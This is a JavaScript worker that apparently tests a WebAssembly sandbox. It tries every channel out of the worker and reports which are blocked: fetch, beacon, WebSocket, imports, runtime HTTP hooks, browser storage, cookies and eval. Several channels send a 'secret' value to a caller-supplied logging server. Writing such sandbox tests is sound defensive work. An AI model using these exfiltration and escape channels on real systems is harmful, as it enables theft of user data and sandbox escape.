// What a script would try that got past the list of what it may name: all ways out of a worker, to a server that notes who comes, and
// to what a browser keeps. It stands in a worker behind the worker's own module, and says of each way what came of it.
const later = (set, good, bad) => new Promise((resolve, reject) => {
  set[good] = resolve;
  set[bad] = () => reject(new Error(bad));
});

const asked = request => later(request, 'onsuccess', 'onerror');

function sent(request, address) {
  request.open('GET', address);
  request.send();
  return later(request, 'onload', 'onerror');
}

const http = () => globalThis.getDotnetRuntime(0).INTERNAL;

const toServer = {
  fetch: there => fetch(`${there}fetch`, { mode: 'no-cors' }),
  post: there => fetch(`${there}post`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  xhr: there => sent(new XMLHttpRequest(), `${there}xhr`),
  socket: there => later(new WebSocket(`${there.replace('http', 'ws')}socket`), 'onopen', 'onerror'),
  events: there => later(new EventSource(`${there}events`), 'onopen', 'onerror'),
  import: there => import(`${there}import`),
  worker: there => later(new Worker(URL.createObjectURL(new Blob([`import '${there}worker'`], { type: 'text/javascript' })), { type: 'module' }), 'onmessage', 'onerror'),
  font: there => new FontFace('taken', `url(${there}font)`).load(),
  importScripts: there => importScripts(`${there}importScripts`),
  beacon: there => navigator.sendBeacon(`${there}beacon`, 'secret'),
  // what the runtime does for an HttpClient and a ClientWebSocket of C#
  httpClient: async there => {
    const controller = http().http_wasm_create_controller();
    await http().http_wasm_fetch(controller, `${there}httpClient`, [], [], ['mode', 'method'], ['no-cors', 'GET'], null, 0);
  },
  clientWebSocket: there => later(http().ws_wasm_create(`${there.replace('http', 'ws')}clientWebSocket`, [], 0, () => {}), 'onopen', 'onerror'),
};

const toStorage = {
  indexedDB: () => asked(indexedDB.open('taken')),
  caches: () => caches.open('taken'),
  folder: () => navigator.storage.getDirectory(),
  files: () => new Promise((resolve, reject) => webkitRequestFileSystem(TEMPORARY, 1000, resolve, reject)),
  filesAtOnce: () => webkitRequestFileSystemSync(TEMPORARY, 1000),
  channel: () => new BroadcastChannel('taken'),
  locks: () => navigator.locks.query(),
  local: () => localStorage.setItem('taken', 'secret'),
  cookies: () => cookieStore.set('taken', 'secret'),
};

const toCode = {
  eval: () => (0, eval)('1'),
  function: () => new Function('return 1')(),
};

async function attempted(attack, there) {
  try {
    await Promise.race([attack(there), new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 3000))]);
    return 'done';
  } catch (refusal) {
    return String(refusal?.message ?? refusal);
  }
}

addEventListener('message', async ({ data, ports: [asker] }) => {
  if (data.attack) {
    const all = Object.entries({ ...toServer, ...toStorage, ...toCode });
    asker.postMessage(Object.fromEntries(await Promise.all(all.map(async ([name, attack]) => [name, await attempted(attack, data.attack)]))));
  }
});
